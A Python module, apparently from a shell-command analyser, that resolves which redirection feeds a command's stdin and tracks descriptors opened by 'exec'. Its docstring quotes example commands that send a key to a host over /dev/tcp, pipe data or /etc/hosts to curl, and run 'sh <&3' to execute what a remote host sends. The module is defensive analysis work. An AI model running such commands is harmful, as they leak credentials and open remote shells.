"""Which redirection of a simple command is its stdin.

A command's redirections are ``(op, target)`` pairs (``pipeline.analysis.shell.syntax_command``):
``<``, ``<>``, ``<<`` (a here-document, its target the body's placeholder), ``<<<`` (a
here-string), ``>``, ... An input redirection on a descriptor other than 0 carries it as
a prefix (``3<``, ``3<<``, ``3<<<``, ``3<>``), as an output one other than 1 does (``2>``):
what it opens is no stdin (``curl -d @- URL 3<<EOF`` sends nothing of the body; ``python3
3<<'PY'`` runs no script), though a here-document's substitutions still run. Bash applies
redirections left to right, so of several on descriptor 0 the last is stdin (``curl -T -
URL < /etc/hosts <<EOF`` uploads the body; ``<<EOF < f`` uploads ``f``), and a pipe's
data is not read when one is there (``cat key | curl -d @- URL < /dev/null`` sends nothing).

``exec`` without a command opens descriptors for the rest of the script (``exec 3<>/dev/tcp/
host/80``, ``exec 3>out.txt``); a later ``>&3`` sends a command's stdout there and ``<&3``
reads its stdin from there, so ``cat key >&3`` sends the key to the host and ``sh <&3`` runs
what the host sends (:func:`through_opened`).
"""

from __future__ import annotations

STDIN_OPS = ("<", "<>", "<<", "<<<")


def base_op(op: str) -> str:
    """The operator without its descriptor (``3<<`` -> ``<<``, ``2>`` -> ``>``)."""
    return op.lstrip("0123456789")


def stdin_redirect(redirs: list[tuple[str, str]]) -> tuple[str, str] | None:
    """The redirection that is the command's stdin: the last on descriptor 0, if any."""
    return next((r for r in reversed(redirs) if r[0] in STDIN_OPS), None)


_OPENS = ("<", "<>", ">", ">>", ">|")


def through_opened(words: list[str], redirs: list[tuple[str, str]],
                   opened: dict[str, tuple[str, str]]) -> list[tuple[str, str]]:
    """``redirs`` with each duplication of a descriptor an earlier ``exec`` opened
    (``opened``: descriptor -> (operator, target)) replaced by a redirection to its target:
    ``>&3`` -> ``> T`` (stdout; ``2>&3``: ``2> T``), ``<&3`` -> ``< T``, when it was opened
    for that direction. A bare ``exec`` (``words == ["exec"]``) records the descriptors its
    redirections open, after its own duplications are resolved (``exec 4>&3``)."""
    out: list[tuple[str, str]] = []
    for op, target in redirs:
        base, fd = base_op(op), op[:len(op) - len(base_op(op))]
        was = opened.get(target) if base in (">&", "<&") else None
        if was is not None and base == ">&" and was[0] != "<":
            op, target = fd + ">", was[1]
        elif was is not None and base == "<&" and was[0] in ("<", "<>"):
            op, target = fd + "<", was[1]
        out.append((op, target))
    if words == ["exec"]:
        for op, target in out:
            base, fd = base_op(op), op[:len(op) - len(base_op(op))]
            if fd and base in _OPENS:
                opened[fd] = ("<" if base == "<" else "<>" if base == "<>" else ">", target)
    return out
